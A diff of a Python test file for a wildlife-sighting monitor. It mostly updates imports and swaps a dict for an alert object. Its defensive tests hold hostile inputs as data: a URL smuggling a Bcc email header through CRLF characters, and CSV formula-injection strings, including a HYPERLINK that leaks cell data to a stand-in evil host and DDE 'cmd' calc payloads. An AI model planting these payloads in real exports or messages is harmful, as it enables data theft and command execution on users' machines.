@@ -23,9 +23,9 @@ from PIL import Image
 from test_monitor import RED, colour_classifier, config, jpeg, serve
 
 from wildwatch.monitor.alerts import ConsoleSink, ConsoleSinkConfig, WebhookSink, WebhookSinkConfig
-from wildwatch.monitor.events import EventStore, EventStoreError
 from wildwatch.monitor.fetch import Fetcher, FetchRefused
 from wildwatch.monitor.run import Monitor
+from wildwatch.store.events import EventStore, EventStoreError
 
 WILDWATCH = str(Path(sys.executable).parent / "wildwatch")
 KEY = "k3y-for-tests"
@@ -533,6 +533,7 @@ def test_a_line_break_in_a_post_never_reaches_an_email_header_and_a_failing_sink
     from aiosmtpd.controller import Controller
 
     from wildwatch.monitor.alerts import EmailSink, EmailSinkConfig, Outbox
+    from wildwatch.monitor.payloads import SightingAlert
 
     got = []
 
@@ -548,7 +549,9 @@ def test_a_line_break_in_a_post_never_reaches_an_email_header_and_a_failing_sink
     calls = []
 
     class Broken:
-        def send(self, payload, key, snapshot):
+        wants_snapshot = False
+
+        def send(self, alert, key, snapshot):
             calls.append(time.time())
             raise RuntimeError("a bug in a sink")
 
@@ -558,8 +561,8 @@ def test_a_line_break_in_a_post_never_reaches_an_email_header_and_a_failing_sink
         outbox = Outbox(store, sinks, base_backoff_s=5)
         hostile = "https://x.example/feed.xml#a\r\nBcc: victim@example.org\r\nX-Evil: 1"
         with store.transaction():
-            outbox.enqueue(1, {"sighting_id": 1, "species": "rhino", "common_name": "Rhinoceros", "iucn_status": "CR",
-                               "source": hostile, "confidence": 0.9}, 0, time.time())
+            outbox.enqueue(1, SightingAlert(sighting_id=1, species="rhino", common_name="Rhinoceros", iucn_status="CR",
+                                            source=hostile, confidence=0.9), 0, time.time())
         assert outbox.deliver_due() == 1 and len(got) == 1
         msg = email.message_from_bytes(got[0].content)
         assert got[0].rcpt_tos == ["ranger@example.org"] and msg["Bcc"] is None and msg["X-Evil"] is None
@@ -625,7 +628,7 @@ def test_a_read_only_or_full_database_is_said_in_words(tmp_path):
     db = tmp_path / "events.db"
     EventStore(db).close()
     db.chmod(0o444)
-    code = ("from wildwatch.monitor.events import EventStore, EventStoreError\n"
+    code = ("from wildwatch.store.events import EventStore, EventStoreError\n"
             f"try:\n    EventStore({str(db)!r}, writer=True)\nexcept EventStoreError as exc:\n    print(exc)")
     proc = subprocess.run(without_root_powers([sys.executable, "-c", code]), capture_output=True, text=True,
                           timeout=60, check=False)
@@ -717,9 +720,10 @@ def test_csv_exports_never_start_a_formula(tmp_path):
     # issue 28 item 11: the cases CSV wrote =HYPERLINK(...) and =cmd|... unescaped
     import csv
 
-    from wildwatch.monitor.cases import CaseBook, Post, cases_text
-    from wildwatch.monitor.events import Sighting, sightings_text
+    from wildwatch.inference.writers import columns_of, get_writer
     from wildwatch.monitor.evidence import post_evidence
+    from wildwatch.store.cases import CaseBook, Post, cases_text
+    from wildwatch.store.events import Sighting
 
     hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1,1)", "\t=1+1", "\uff1dcmd|x"]
@@ -737,7 +741,7 @@ def test_csv_exports_never_start_a_formula(tmp_path):
     assert {r["link"] for r in rows} == {"'" + h for h in hostile}  # kept as text, one apostrophe in front
     sightings = [Sighting(h, "rhino", 0.9, "2026-05-01T05:00:00+00:00", "2026-05-01T05:01:00+00:00", link=h,
                           latitude=-1.29, longitude=-36.8) for h in hostile]
-    for row in csv.DictReader(io.StringIO(sightings_text(sightings, "csv"))):
+    for row in csv.DictReader(io.StringIO(get_writer("csv").write_sightings(sightings, columns_of(Sighting)))):
         assert row["source"].startswith("'") and row["link"].startswith("'") and row["latitude"] == "-1.29"
     store.close()
 
